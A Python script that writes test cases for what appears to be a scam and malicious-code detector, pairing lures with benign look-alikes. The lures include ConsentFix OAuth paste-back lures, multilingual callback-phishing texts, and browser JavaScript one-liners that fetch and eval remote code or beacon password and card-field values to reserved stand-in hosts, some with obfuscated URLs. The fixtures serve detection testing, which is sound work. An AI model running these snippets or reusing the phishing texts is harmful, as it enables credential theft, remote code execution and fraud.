"""Writes tests/data/cases/gaps.jsonl: technique families the blind set showed were missed
(bench/blind/README.md), each with our own lures and benign look-alikes.

    python tests/data/cases/make_gaps.py

Deterministic. Hosts are reserved names (*.test, *.invalid, *.example), phone numbers are
fictitious (555 ranges). Each line is {id, text, expect, technique, platform}.
"""

from __future__ import annotations

from pathlib import Path

OUT = Path(__file__).with_name("gaps.jsonl")

# (id, text, expect, technique)
RAW: list[tuple[str, str, str, str]] = [
    # ConsentFix: loopback sign-in redirects without a scheme, with short codes, in a sentence
    ("g-consentfix-bare-1",
     "localhost:8765/auth/done?code=M.C5a7_BAY.2.U.9f3kQz81LmPx&state=a81",
     "flagged", "consentfix-bare-loopback"),
    ("g-consentfix-bare-2", "127.0.0.1:50311/#code=Zk81mQ2pL0vX9aB4Tt7&state=q1",
     "flagged", "consentfix-bare-loopback"),
    ("g-consentfix-short-1",
     "http://localhost:61022/?code=0.ARwA7kP&client_info=eyJ1aWQiOiI&state=Lk2&session_state=9c1d-aa",
     "flagged", "consentfix-short-code"),
    ("g-consentfix-sentence-1",
     "Almost done! Copy the whole address from your browser and paste it below: "
     "http://localhost:40777/?code=0.AXcB8mPq2zR&state=Tq1&session_state=1f2e-cc",
     "flagged", "consentfix-paste-back"),
    ("g-ok-localhost-dev-1", "npm run dev, then open localhost:5173/settings?tab=profile in your browser.",
     "not_flagged", "benign-localhost-dev"),
    ("g-ok-oauth-doc-1",
     "After consent the provider redirects to localhost:8080/callback?code=AUTHORIZATION_CODE&state=STATE "
     "and your server exchanges the code for tokens at the token endpoint.",
     "not_flagged", "benign-oauth-doc"),
    ("g-ok-oauth-doc-2",
     "Copy the client id into your config. The redirect URI must be "
     "http://localhost:3000/api/auth/callback exactly as registered.",
     "not_flagged", "benign-oauth-doc"),
    # Browser console: fetch-and-run forms and form-field theft
    ("g-js-function-fetch-1",
     "(new Function(await (await fetch('https://cdn.helper-sync.invalid/a.js')).text()))()",
     "malicious", "js-function-of-fetch"),
    ("g-js-function-fetch-2",
     "Function(await (await fetch(`https://203.0.113.40/x`)).text())()",
     "malicious", "js-function-of-fetch"),
    ("g-js-xhr-sync-1",
     "let r=new XMLHttpRequest();r.open('GET','https://pkg-mirror.test/c.js',false);r.send(null);Function(r.responseText)()",
     "malicious", "js-xhr-eval"),
    ("g-js-xhr-onload-1",
     "var q=new XMLHttpRequest();q.onload=function(){eval(this.responseText)};q.open('GET','https://tools-fix.example/k');q.send()",
     "malicious", "js-xhr-eval"),
    ("g-js-import-var-1",
     "const m='https://esm.widget-hub.invalid/boot.mjs'; await import(m)",
     "flagged", "js-import-remote"),
    ("g-js-script-multiline-1",
     "const s = document.createElement('script');\ns.async = true;\ns.src = 'https://static.verify-gate.test/loader.js';\ndocument.head.appendChild(s);",
     "malicious", "js-script-element"),
    ("g-js-password-exfil-1",
     "for (const f of document.querySelectorAll('input[type=\"password\"]')) navigator.sendBeacon('https://collect.form-help.invalid/p', f.value)",
     "malicious", "js-form-exfil"),
    ("g-js-card-exfil-1",
     "const c=document.querySelector('[autocomplete=cc-number]').value;new Image().src='//pix.shop-stats.test/i.gif?c='+c",
     "malicious", "js-form-exfil"),
    ("g-ok-js-fetch-json-1",
     "const r = await fetch('https://api.github.com/repos/octo/app'); console.log((await r.json()).stargazers_count)",
     "not_flagged", "benign-console-js"),
    ("g-ok-js-password-check-1",
     "document.querySelectorAll('input[type=password]').forEach(i => console.log(i.name, i.value.length))",
     "not_flagged", "benign-console-js"),
    ("g-ok-js-xhr-json-1",
     "var x=new XMLHttpRequest();x.open('GET','/api/status',false);x.send();console.log(JSON.parse(x.responseText))",
     "not_flagged", "benign-console-js"),
    ("g-ok-js-import-local-1",
     "const mod = await import('./utils.js'); mod.init()",
     "not_flagged", "benign-console-js"),
    # Callback phishing: pending charges, renewals, shipped orders, blocked cards, frozen accounts
    ("g-scam-pending-en-1",
     "Notice: a transfer of $1,120.00 to QuickCoin Ltd is pending. If this was not you, phone our billing desk "
     "at +1 (555) 010-4477 to stop it today.",
     "flagged", "callback-pending-charge"),
    ("g-scam-refund-line-en-1",
     "Your Norton plan auto-renewed: USD 299.99. Cancellation line: 1-555-010-2290 (open 24h).",
     "flagged", "callback-renewal"),
    ("g-scam-order-de-1",
     "Ihre Bestellung Nr. 90-1187 vom 03.12. über 899,00 € wurde versandt. Falls Sie das nicht bestellt haben, "
     "rufen Sie sofort an: +49 30 5550 1188",
     "flagged", "callback-order-de"),
    ("g-scam-order-it-1",
     "Ordine 55190 (Samsung TV, 1.099,00 €) confermato. Se non hai autorizzato l'acquisto chiama il "
     "+39 02 5550 1212 per annullarlo.",
     "flagged", "callback-order-it"),
    ("g-scam-card-ru-1",
     "Ваша карта временно заблокирована из-за подозрительной операции. Позвоните в службу безопасности: "
     "+7 495 555-01-23",
     "flagged", "card-blocked-ru"),
    ("g-scam-frozen-zh-1",
     "您的银行卡由于可疑交易已被冻结，请立即拨打客服热线 400-555-0188 解冻。",
     "flagged", "account-frozen-zh"),
    ("g-ok-order-en-1",
     "Thanks for your order #44120! It has shipped and should arrive Tuesday. Questions? Call us on "
     "+1 555 010 3300, Mon-Fri 9-5.",
     "not_flagged", "benign-order-mail"),
    ("g-ok-order-de-1",
     "Ihre Bestellung Nr. 3381 wurde versandt und kommt am Freitag. Unser Kundenservice ist erreichbar "
     "unter +49 30 5550 2200.",
     "not_flagged", "benign-order-mail"),
    ("g-ok-booking-it-1",
     "Prenotazione confermata per 2 persone, venerdì alle 20:30. Per modifiche chiami il +39 06 5550 3344.",
     "not_flagged", "benign-booking"),
    ("g-ok-signature-zh-1",
     "王丽 | 财务部 | 电话 010-5555-0123 | 如需退款请发邮件",
     "not_flagged", "benign-signature"),
    # the same, with the address put together so no pattern sees it (read by the interpreter)
    ("g-js-xhr-hidden-1",
     "var h='ht'+'tps://pay'+'load-cdn.invalid/z';var x=new XMLHttpRequest();x.open('GET',h,false);x.send();eval(x.responseText)",
     "flagged", "js-xhr-eval-hidden"),
    ("g-js-xhr-onload-hidden-1",
     "var x=new XMLHttpRequest();x.onload=function(){eval(this.responseText)};x.open('GET',atob('aHR0cHM6Ly9ldmlsLmludmFsaWQvYQ=='));x.send()",
     "flagged", "js-xhr-eval-hidden"),
    ("g-js-function-fetch-hidden-1",
     "Function(await (await fetch(['//','cdn.sync-tools.test','/r.js'].join(''))).text())()",
     "flagged", "js-function-of-fetch-hidden"),
]  # fmt: skip


def case(cid: str, text: str, expect: str, technique: str) -> dict[str, str]:
    return {"id": cid, "text": text, "expect": expect, "technique": technique, "platform": "any"}


def build() -> list[dict[str, str]]:
    cases = [case(*row) for row in RAW]
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
